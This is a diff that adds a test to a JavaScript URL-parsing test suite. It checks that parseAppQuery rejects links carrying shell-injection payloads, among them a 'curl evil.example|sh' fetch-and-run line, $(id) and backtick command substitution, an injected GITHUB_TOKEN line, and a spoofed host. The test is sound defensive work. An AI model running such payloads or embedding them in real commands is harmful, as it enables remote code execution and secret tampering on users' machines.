@@ -41,3 +41,18 @@ test.each(['javascript:alert(1)', 'air.example.com', 'https://air.example.com/?x
     })
   },
 )
+
+test.each([
+  'https://air.example.com/;curl evil.example|sh',
+  'https://air.example.com/$(id)',
+  'https://air.example.com/`id`',
+  'https://air.example.com/\nGITHUB_TOKEN=x',
+  "https://air.example.com/'x",
+  'https://air.example.com/&x',
+  'https://github.com@air.example.com',
+])('%j, which somebody may copy into a shell from a link that another made, shows no command', (url) => {
+  expect(parseAppQuery({ organisation: 'octo', url }, OWN)).toMatchObject({
+    problem: expect.any(String),
+    request: null,
+  })
+})
